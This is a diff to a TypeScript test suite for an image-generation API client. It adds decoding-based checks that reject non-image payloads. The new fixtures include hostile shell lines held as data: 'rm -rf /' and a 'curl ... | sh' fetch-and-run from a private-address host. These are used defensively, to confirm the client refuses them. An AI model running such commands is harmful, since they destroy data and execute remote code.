@@ -2,14 +2,16 @@ import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { createImagesClient, mapUsage, type ImagesClientOptions } from '#core/images/client.js';
-import { decodeBase64Image, ImageDataError, sniffContentType } from '#core/images/decode.js';
+import { decodeBase64Image, ImageDataError } from '#core/images/decode.js';
+import { checkImage } from '#core/images/image-check.js';
 import { buildParams } from '#core/images/params.js';
 import { ImagesApiError, type PartialImage } from '#core/images/types.js';
 import { hashUser } from '#core/images/user-hash.js';
 import { createLogger } from '#core/log.js';
 import type { ImageRequest } from '#core/request.js';
 import { startFakeImagesApi, type FakeImagesApi } from './fakes/images-api.js';
-import { pngDimensions } from './fakes/png.js';
+import sharp from 'sharp';
+import { pngDimensions, solidPng } from './fakes/png.js';
 
 const key = 'sk-test-0123456789-very-secret';
 // Deliberately no secrets given to the logger: the client itself must keep the key out of its lines.
@@ -343,7 +345,7 @@ describe('images client: refusals and broken answers', () => {
   it('refuses a url image larger than the download cap', async () => {
     fake.failNext(1, { type: 'oversizeImage', bytes: 200_000 });
     const error = await failure(client({ maxDownloadBytes: 64 * 1024 }).generate(request()));
-    expect(error.kind).toBe('upstream');
+    expect(error.kind).toBe('tooLarge');
     expect(error.message).toContain(`larger than ${64 * 1024} bytes`);
     expect(error.details.attempts).toBe(1);
   });
@@ -372,17 +374,48 @@ describe('images client: refusals and broken answers', () => {
     expect(error.kind).toBe('upstream');
     expect(error.message).toContain(message);
   });
+
+  it.each(['b64_json', 'url'] as const)(
+    'fails, without retrying, when the image sent as %s is not an image',
+    async (mode) => {
+      fake.setResponseMode(mode);
+      fake.failNext(1, { type: 'notAnImage', bytes: Buffer.from('#!/bin/sh\nrm -rf /\n') });
+      const error = await failure(client().generate(request({ count: 2 })));
+      expect(error.kind).toBe('upstream');
+      expect(error.message).toContain('not an image');
+      expect(fake.requests).toHaveLength(1);
+    },
+  );
 });
 
 describe('images client: pure mapping', () => {
+  it('accepts PNG, JPEG and WebP by decoding them, whatever their bytes claim', async () => {
+    const png = solidPng({ width: 8, height: 6 }, 'check');
+    expect((await checkImage(png)).contentType).toBe('image/png');
+    expect((await checkImage(await sharp(png).jpeg().toBuffer())).contentType).toBe('image/jpeg');
+    expect((await checkImage(await sharp(png).webp().toBuffer())).contentType).toBe('image/webp');
+  });
+
   it.each([
-    ['image/png', [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0]],
-    ['image/jpeg', [0xff, 0xd8, 0xff, 0xe0]],
-    ['image/webp', [...Buffer.from('RIFF'), 0, 0, 0, 0, ...Buffer.from('WEBPVP8 ')]],
-    ['image/gif', [...Buffer.from('GIF89a'), 1]],
-    ['application/octet-stream', [...Buffer.from('<html>')]],
-  ])('sniffs %s from the signature', (type, bytes) => {
-    expect(sniffContentType(Buffer.from(bytes))).toBe(type);
+    ['a shell script', Buffer.from('#!/bin/sh\ncurl http://10.0.0.1/ | sh\n')],
+    ['an HTML page', Buffer.from('<html><body>internal dashboard</body></html>')],
+    ['a GIF', Buffer.from('R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==', 'base64')],
+    ['a PNG cut short', solidPng({ width: 64, height: 64 }, 'cut').subarray(0, 60)],
+    [
+      'a PNG signature over garbage',
+      Buffer.concat([
+        Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
+        Buffer.alloc(64, 7),
+      ]),
+    ],
+  ])('refuses %s as an upstream failure', async (_, bytes) => {
+    const error = await checkImage(bytes).then(
+      () => expect.unreachable('accepted'),
+      (caught: unknown) => caught,
+    );
+    expect(error).toBeInstanceOf(ImageDataError);
+    expect((error as ImageDataError).kind).toBe('upstream');
+    expect((error as Error).message).toContain('not an image');
   });
 
   it('decodes strict base64 and refuses anything else', () => {
